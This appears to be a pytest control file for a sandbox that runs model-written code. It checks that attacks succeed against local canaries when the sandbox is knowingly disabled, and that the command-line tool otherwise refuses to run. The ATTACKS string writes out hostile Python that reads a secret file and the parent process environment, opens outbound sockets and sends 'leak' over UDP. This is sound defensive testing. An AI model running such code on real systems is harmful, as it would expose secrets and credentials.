"""Controls for the hostile suite: with the sandbox switched off (knowingly, through the test
switch and allow_unsandboxed), the same attacks succeed and every canary notices. This is
what makes "nothing was noticed" in the other tests mean something."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import pytest

from engine import events as ev
from engine.config import Limits, SandboxSettings
from engine.providers.prices import PriceTable
from engine.rlm.clients import Endpoint
from engine.rlm.session import RunSpec, run_question
from engine.sandbox.policy import SIMULATE_ENV
from tests.engine.sandbox.hostile.conftest import FINAL_ANSWER, Canaries
from tests.support.fake_openai import FakeOpenAI, sequence
from tests.support.harness import ask, repl

ATTACKS = """
import os, socket, subprocess
print(open({secret!r}).read())
print(os.listdir({home!r}))
socket.create_connection(({tcp_host!r}, {tcp_port}), timeout=2).close()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ({udp_host!r}, {udp_port}))
u = socket.socket(socket.AF_UNIX); u.connect({unix!r}); u.close()
a = socket.socket(socket.AF_UNIX); a.connect({abstract!r}); a.close()
subprocess.run(['touch', {marker!r}], check=True)
print('parent environ readable', len(open(f'/proc/{{os.getppid()}}/environ', 'rb').read()) > 0)
"""


def attacks(canaries: Canaries) -> str:
    return ATTACKS.format(secret=str(canaries.secret_file), home=str(canaries.home),
                          tcp_host=canaries.tcp.address[0], tcp_port=canaries.tcp.address[1],
                          udp_host=canaries.udp.address[0], udp_port=canaries.udp.address[1],
                          unix=canaries.unix.address, abstract=canaries.abstract.address,
                          marker=str(canaries.marker))


def wait_for(condition: Any, seconds: float = 5.0) -> bool:
    deadline = time.monotonic() + seconds
    while not condition() and time.monotonic() < deadline:
        time.sleep(0.02)
    return bool(condition())


def test_without_the_sandbox_every_canary_fires(canaries: Canaries,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(SIMULATE_ENV, "all")
    events: list[ev.Event] = []
    script = sequence(repl(attacks(canaries)), repl(f"FINAL({FINAL_ANSWER!r})"))
    with FakeOpenAI(script) as server:
        spec = RunSpec(question="q", context="some text", documents=[],
                       root=Endpoint("fake-root", server.base_url, canaries.api_key),
                       sub=Endpoint("fake-sub", server.base_url, canaries.api_key),
                       limits=Limits(), prices=PriceTable.builtin(),
                       sandbox=SandboxSettings(allow_unsandboxed=True))
        result = asyncio.run(run_question(spec, events.append))
    assert result.stop_reason == "answered"
    assert result.sandbox["enforced"] is False and result.sandbox["allowed_unsandboxed"]
    cell = next(e for e in events if isinstance(e, ev.CellFinished))
    assert cell.error is None, cell.error
    assert canaries.secrets[canaries.secret_file] in cell.output
    assert "parent environ readable True" in cell.output
    for listener in canaries.listeners:
        assert wait_for(lambda listener=listener: listener.hits), listener.address
    assert canaries.marker.exists()
    with pytest.raises(AssertionError):
        canaries.assert_untouched()


def test_without_the_sandbox_the_cli_refuses_and_says_how_to_allow(
        canaries: Canaries, monkeypatch: pytest.MonkeyPatch, tmp_path: Any,
        capsys: Any) -> None:
    monkeypatch.setenv(SIMULATE_ENV, "seccomp")
    with FakeOpenAI(sequence(repl(attacks(canaries)))) as server:
        out = ask(server, tmp_path, capsys, "q")
        root_calls = len(server.requests)
    assert out.code == 5 and out.result["stop_reason"] == "sandbox_error"
    error = out.result["error"]
    assert "refusing to run model-written code" in error and "lacks network, process" in error
    assert "seccomp: disabled by the host" in error and "--allow-unsandboxed" in error
    assert out.result["sandbox"]["enforced"] is False
    assert "safe workspace: NOT fully isolated" in out.stderr
    assert root_calls == 0  # refused before the model was even asked
    canaries.assert_untouched()


@pytest.mark.parametrize("how", ["flag", "settings"])
def test_allowing_an_incomplete_sandbox_from_the_cli(how: str, tmp_path: Any, capsys: Any,
                                                     monkeypatch: pytest.MonkeyPatch,
                                                     isolated_environment: Any) -> None:
    monkeypatch.setenv(SIMULATE_ENV, "seccomp")
    extra = ["--allow-unsandboxed"] if how == "flag" else []
    if how == "settings":
        folder = isolated_environment / ".config" / "rlm-desktop"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "config.json").write_text('{"sandbox": {"allow_unsandboxed": true}}')
    with FakeOpenAI(sequence(repl("FINAL('ran')"))) as server:
        out = ask(server, tmp_path, capsys, "q", *extra)
    assert out.code == 0 and out.result["answer"] == "ran"
    assert out.result["sandbox"]["allowed_unsandboxed"] is True
    assert "safe workspace: NOT fully isolated: ALLOWED UNSANDBOXED" in out.stderr
